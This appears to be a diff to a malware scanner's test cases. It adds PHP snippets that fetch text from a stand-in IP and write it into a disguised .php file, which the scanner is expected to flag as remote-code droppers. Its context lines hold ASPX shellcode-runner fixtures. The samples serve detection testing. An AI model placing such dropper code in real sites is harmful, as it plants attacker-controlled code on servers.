@@ -175,6 +175,13 @@ file_put_contents('../config.php', "<?php\n\$db_host = '" . addslashes($_POST['h
 define('BASE', dirname(__FILE__));
 file_put_contents(BASE . '/post.log', $_POST['msg'], FILE_APPEND);`, 'not-malicious'],
 
+  // S27R-12: a PHP file written from a fixed remote address (clean before; a self-updater has the
+  // shape too, so suspicious: with any other sign, malicious)
+  [undefined, "S27R-12 (fixed here): flagged: file_put_contents(__DIR__ . '/x.php', file_get_contents('http://..'))", '/www/d.php', `<?php\nfile_put_contents(__DIR__ . '/wp-l10n.php', file_get_contents('http://198.51.100.7/s.txt'));`, 'flagged', 'mamori:remote-code-file'],
+  [undefined, "S27R-12 (fixed here): flagged: copy('http://..', 'x.php')", '/www/d.php', `<?php\ncopy('http://198.51.100.7/s.txt', __DIR__ . '/wp-l10n.php');`, 'flagged', 'mamori:remote-code-file'],
+  [undefined, 'S27R-12 (fixed here): flagged: curl_init of a URL, curl_exec into a variable, written under .php', '/www/d.php', `<?php\n$c = curl_init('http://198.51.100.7/s.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c);\nfile_put_contents('wp-l10n.php', $d);`, 'flagged', 'mamori:remote-code-file'],
+  [undefined, 'not flagged: a remote JSON written to a cache .json, the file requiring config.php', '/www/lib/feed.php', `<?php\nrequire 'config.php';\nfile_put_contents(__DIR__ . '/cache/feed.json', file_get_contents('https://api.example.org/feed'));`, 'clean'],
+
   // S27R-5: the DefinePInvokeMethod branch asks for Marshal.Copy
   [undefined, 'holds: DefinePInvokeMethod and Marshal.Copy', '/www/r.aspx', PINVOKE.replace('COPY', '  Marshal.Copy(sc, 0, mem, sc.Length);'), 'malicious', 'mamori_aspx_shellcode_runner'],
   [undefined, 'S27R-5 (fixed here): DefinePInvokeMethod and Marshal.WriteByte in a loop', '/www/r.aspx', PINVOKE.replace('COPY', '  for (int i = 0; i < sc.Length; i++) Marshal.WriteByte(mem, i, sc[i]);'), 'malicious', 'mamori_aspx_shellcode_runner'],
